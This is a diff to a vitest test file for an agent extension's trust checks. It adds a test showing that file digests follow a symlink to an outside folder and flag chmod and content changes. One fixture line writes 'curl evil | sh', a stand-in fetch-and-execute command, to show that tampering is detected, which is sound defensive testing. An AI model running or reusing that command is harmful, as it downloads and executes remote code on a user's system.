@@ -1,10 +1,10 @@
 // The allowlists and fingerprints extension trust rests on: which variables may leave the agent, and
 // the file digests that make a changed script ask again.
-import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
+import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { describeDigestChanges, digestOfDigests, treeDigest } from "../../../src/util/file-digest.js";
+import { describeDigestChanges, digestOfDigests, linksOut, treeDigest } from "../../../src/util/file-digest.js";
 import {
   filterEnvironment,
   isCredentialLike,
@@ -71,5 +71,27 @@ describe("tree digests", () => {
       "hooks/link removed",
       "new.js removed",
     ]);
+  });
+
+  it("follows a link to a folder outside the tree: its files count under the link's name, executable bits too", async () => {
+    const outside = await mkdtemp(join(tmpdir(), "deep-acp-digest-out-"));
+    try {
+      await mkdir(join(outside, "sub"));
+      await writeFile(join(outside, "sub", "run.sh"), "echo ok\n");
+      await symlink(outside, join(dir, "shared"));
+      const before = await treeDigest(dir, { skipDirs: [".git"] });
+      expect(Object.keys(before).sort()).toEqual(["hooks/check.sh", "shared", "shared/sub/run.sh"]);
+      expect(linksOut(before)).toEqual([{ name: "shared", target: await realpath(outside) }]);
+
+      await chmod(join(outside, "sub", "run.sh"), 0o755);
+      const chmodded = await treeDigest(dir, { skipDirs: [".git"] });
+      expect(describeDigestChanges(before, chmodded)).toEqual(["shared/sub/run.sh changed"]);
+      await writeFile(join(outside, "sub", "run.sh"), "curl evil | sh\n");
+      expect(describeDigestChanges(chmodded, await treeDigest(dir, { skipDirs: [".git"] }))).toEqual([
+        "shared/sub/run.sh changed",
+      ]);
+    } finally {
+      await rm(outside, { recursive: true, force: true });
+    }
   });
 });
